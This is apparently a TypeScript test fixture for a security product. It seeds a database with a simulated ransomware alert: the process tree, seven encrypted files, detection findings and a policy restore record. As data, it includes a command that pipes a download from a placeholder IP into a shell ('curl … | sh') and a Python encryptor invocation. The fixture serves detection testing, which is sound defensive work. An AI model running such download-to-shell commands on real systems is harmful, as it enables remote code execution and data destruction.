// A ransomware in a container that the agent stopped and the policy undid, for tests.
import { finding } from '@norn/contracts';
import { CommandRecord } from '@norn/store';
import { AttackBuilder, type BuiltProcess, idOf } from '../attack-builder.ts';
import {
  type Databases,
  type FindingFacts,
  type Home,
  storeAlert,
  storeContainer,
  storeTelemetry,
} from '../store-attack.ts';
import { containerStart, reflex, webContainer } from './web-container.ts';

const ms = 1000;

export async function seedRansomware(databases: Databases, home: Home, nowUs = Date.now() * ms): Promise<string> {
  const attack = new AttackBuilder(`ransomware ${home.tenantId}`);
  const t0 = nowUs - 130_000 * ms;
  const stopped = t0 + 38 * ms;
  const { origin, dropper, shell, python, curl } = buildRansomware(attack, { nowUs, t0, stopped });
  await storeContainer(databases, home, webContainer, origin.startUs);
  await storeTelemetry(databases, home, attack, origin);
  const id = await storeAlert(databases, home, attack, {
    title: 'Ransomware',
    summary: 'python3 encrypted 7 files in 38 ms',
    severity: finding.Severity.CRITICAL,
    state: 'remediated',
    scope: dropper,
    origin,
    firstActUs: t0,
    stoppedUs: stopped,
    killed: [dropper, shell, python],
    atUs: stopped + 4 * ms,
    findings: ransomwareFindings({ python, curl, dropper }, t0),
  });
  await storeCommand(databases, home, { alertId: id, attack: attack.name, atUs: stopped + 40 * ms });
  return id;
}

/** A worker of the shop pipes a download into a shell, which encrypts seven files. */
function buildRansomware(attack: AttackBuilder, { nowUs, t0, stopped }: Record<'nowUs' | 't0' | 'stopped', number>) {
  const origin = containerStart(attack, nowUs - 30 * 3_600_000 * ms);
  const gunicorn = attack.process(origin, {
    pid: 4020,
    startUs: origin.startUs + 700 * ms,
    commands: ['gunicorn -w 2 shop:app'],
    namespacePid: 7,
    userId: 33,
    userName: 'www-data',
  });
  attack.process(gunicorn, {
    // A killed one gets it again, an hour later.
    pid: 4120,
    startUs: t0 - 3_600_000 * ms,
    commands: ['gunicorn -w 2 shop:app'],
    namespacePid: 9,
  });
  const worker = attack.process(gunicorn, {
    pid: 4024,
    startUs: gunicorn.startUs + 22 * ms,
    commands: ['gunicorn -w 2 shop:app'],
    namespacePid: 10,
  });
  const killed = { endUs: stopped, exitStatus: 9 };
  const dropper = attack.process(worker, {
    pid: 4118,
    startUs: t0 - 900 * ms,
    commands: ['/bin/sh -c curl -s http://203.0.113.9/x|sh'],
    namespacePid: 34,
    ...killed,
  });
  const curl = attack.process(dropper, {
    pid: 4119,
    startUs: t0 - 890 * ms,
    commands: ['curl -s http://203.0.113.9/x'],
    namespacePid: 35,
    endUs: t0 - 120 * ms,
  });
  const shell = attack.process(dropper, {
    pid: 4120,
    startUs: t0 - 888 * ms,
    commands: ['sh'],
    namespacePid: 36,
    ...killed,
  });
  const python = attack.process(shell, {
    pid: 4121,
    startUs: t0 - 50 * ms,
    commands: ['sh', 'python3 /tmp/x.py /srv/data'],
    namespacePid: 37,
    ...killed,
  });
  attack.event(curl, { kind: 20, us: t0 - 870 * ms, path: '203.0.113.9', value: 80 * 65_536 + 41_822 });
  encrypt(attack, python, t0);
  return { origin, dropper, shell, python, curl };
}

function encrypt(attack: AttackBuilder, python: BuiltProcess, t0: number): void {
  const names = [
    'orders.csv',
    'customers.db',
    'invoices/2026-10.pdf',
    'invoices/2026-11.pdf',
    'products.json',
    'uploads/logo.svg',
    'sessions.sqlite',
  ];
  names.forEach((name, index) => {
    attack.file(python, {
      us: t0 + (2 + index * 5) * ms,
      path: `/srv/data/${name}`,
      verdict: 'restored',
      change: index % 3 === 2 ? 'replaced' : 'in-place',
    });
  });
  attack.file(python, { us: t0 + 36 * ms, path: '/srv/data/READ_ME_TO_DECRYPT.txt', verdict: 'removed', size: 612 });
}

function ransomwareFindings(
  { python, curl, dropper }: Record<'python' | 'curl' | 'dropper', BuiltProcess>,
  t0: number,
): FindingFacts[] {
  return [
    reflex({
      process: python,
      rule: 'reflex.ransomware',
      title: 'Ransomware',
      summary: 'the content of 7 files lost its type, entropy rose from 4.1 to 8.0 bits a byte, and a note was left',
      techniques: ['T1486'],
      us: t0 + 37 * ms,
      evidence: {
        'file.changed': '7',
        'entropy.before': '4.1',
        'entropy.after': '8.0',
        'type.lost': '7 of 7',
        'note.path': '/srv/data/READ_ME_TO_DECRYPT.txt',
      },
    }),
    reflex({
      process: curl,
      reflex: false,
      severity: finding.Severity.MEDIUM,
      rule: 'norn.download-to-shell',
      title: 'A download was piped into a shell',
      summary: 'curl ran below a shell that runs what it reads',
      techniques: ['T1105', 'T1059.004'],
      us: t0 - 880 * ms,
      evidence: {
        CommandLine: 'curl -s http://203.0.113.9/x',
        ParentCommandLine: dropper.images[0]?.commandLine ?? '',
      },
    }),
  ];
}

interface StoredCommand extends Partial<CommandRecord> {
  alertId: string;
  attack: string;
  atUs: number;
}

export async function storeCommand(
  { control }: Databases,
  home: Home,
  { alertId, attack, atUs, ...facts }: StoredCommand,
): Promise<void> {
  await control.query('UPDATE alert_handlings SET epoch = 1 WHERE id = $1', [alertId]);
  await control.manager.save(CommandRecord, {
    id: idOf(`${attack} restore`),
    ...home,
    alertId,
    action: 'restore',
    filesChanged: 8,
    filesRemoved: 1,
    state: 'succeeded',
    code: 'ok',
    message: '7 of 7 files restored, 1 removed, in 9 ms',
    requestedBy: 'policy',
    epoch: '1',
    signed: Buffer.alloc(0),
    expiresAt: new Date(atUs / ms + 120_000),
    retryAt: new Date(atUs / ms + 5_000),
    requestedAt: new Date(atUs / ms),
    finishedAt: new Date(atUs / ms + 160),
    ...facts,
  });
}
